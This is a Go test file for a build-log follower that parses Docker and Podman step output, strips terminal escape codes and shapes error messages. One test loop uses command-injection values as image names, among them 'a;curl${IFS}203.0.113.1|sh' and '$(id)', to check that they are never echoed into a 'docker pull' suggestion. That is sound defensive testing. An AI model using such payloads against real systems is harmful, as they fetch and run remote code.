package making

import (
	"fmt"
	"strings"
	"testing"
)

// The steps of a recipe are told, and a command that fails shows its own last words, with
// nothing that a terminal would obey.
func TestFollowABuild(t *testing.T) {
	var steps []string
	say := func(step, of int, what string) {
		steps = append(steps, strings.Repeat("|", step)+strings.Repeat(".", of-step)+what)
	}
	err := Follow(strings.NewReader(`{"stream":"Step 1/2 : FROM x"}{"stream":"\n"}{"status":"Pulling"}{"stream":"Step 2/2 : RUN y\u001b[2J"}{"stream":"no such y\u001b[31m"}{"error":"it returned 1"}`), say)
	if err == nil || !strings.Contains(err.Error(), "it returned 1") || !strings.Contains(err.Error(), "no such y") || strings.Contains(err.Error(), "\x1b") {
		t.Errorf("%q", err)
	}
	if len(steps) != 2 || steps[0] != "|.FROM x" || !strings.HasPrefix(steps[1], "||RUN y") || strings.Contains(steps[1], "\x1b") {
		t.Errorf("%q", steps)
	}
	err = Follow(strings.NewReader(`{"stream":"Step 1/1 : RUN y"}{"stream":" ---> Running in 4a45\n"}{"stream":"before\n"}{"stream":"\u001b[91mno y\u001b[0m\u001b[91m\n\u001b[0m"}{"stream":"Removing intermediate container 4a45\n"}{"error":"it returned 1"}`), say)
	if want := "step 1 of 1, RUN y: it returned 1\nbefore\nno y"; err == nil || err.Error() != want || NoBase(err).Error() != want {
		t.Errorf("%q", err)
	}
	err = NoBase(Follow(strings.NewReader(`{"stream":"Step 1/2 : FROM none:1 AS x"}{"error":"no such host"}`), say))
	if err == nil || !strings.HasPrefix(err.Error(), "step 1 of 2, FROM none:1 AS x: no such host\n") || !strings.Contains(err.Error(), "docker pull none:1,") {
		t.Errorf("%q", err)
	}
	for _, base := range []string{"a;curl${IFS}203.0.113.1|sh", "$(id)", "--help", "a`id`"} { // a recipe may be a stranger's
		if err := NoBase(Follow(strings.NewReader(`{"stream":"Step 1/2 : FROM `+base+`"}{"error":"invalid reference"}`), say)); err == nil || strings.Contains(err.Error(), "docker pull") {
			t.Errorf("%s: %q", base, err)
		}
	}
	if err := Follow(strings.NewReader(`{"stream":"Step 1/1 : FROM x"}`), say); err != nil {
		t.Error(err)
	}
	if err := Follow(strings.NewReader(`{"stream":`), say); err == nil {
		t.Error("half a word was taken for the end")
	}
}

func TestStepsOfPodman(t *testing.T) {
	for said, want := range map[string]string{"STEP 2/7: COPY a: b": "2/7 COPY a: b", "[1/2] STEP 3/4: RUN x": "3/4 RUN x", "Step 1/3 : FROM x\n": "1/3 FROM x", "Step by step: x": "0/0 ", "COMMIT x": "0/0 ", "--> a1": "0/0 ", "": "0/0 "} {
		if step, of, what := stepOf(said); fmt.Sprintf("%d/%d %s", step, of, what) != want {
			t.Errorf("%q: %d/%d %s", said, step, of, what)
		}
	}
}
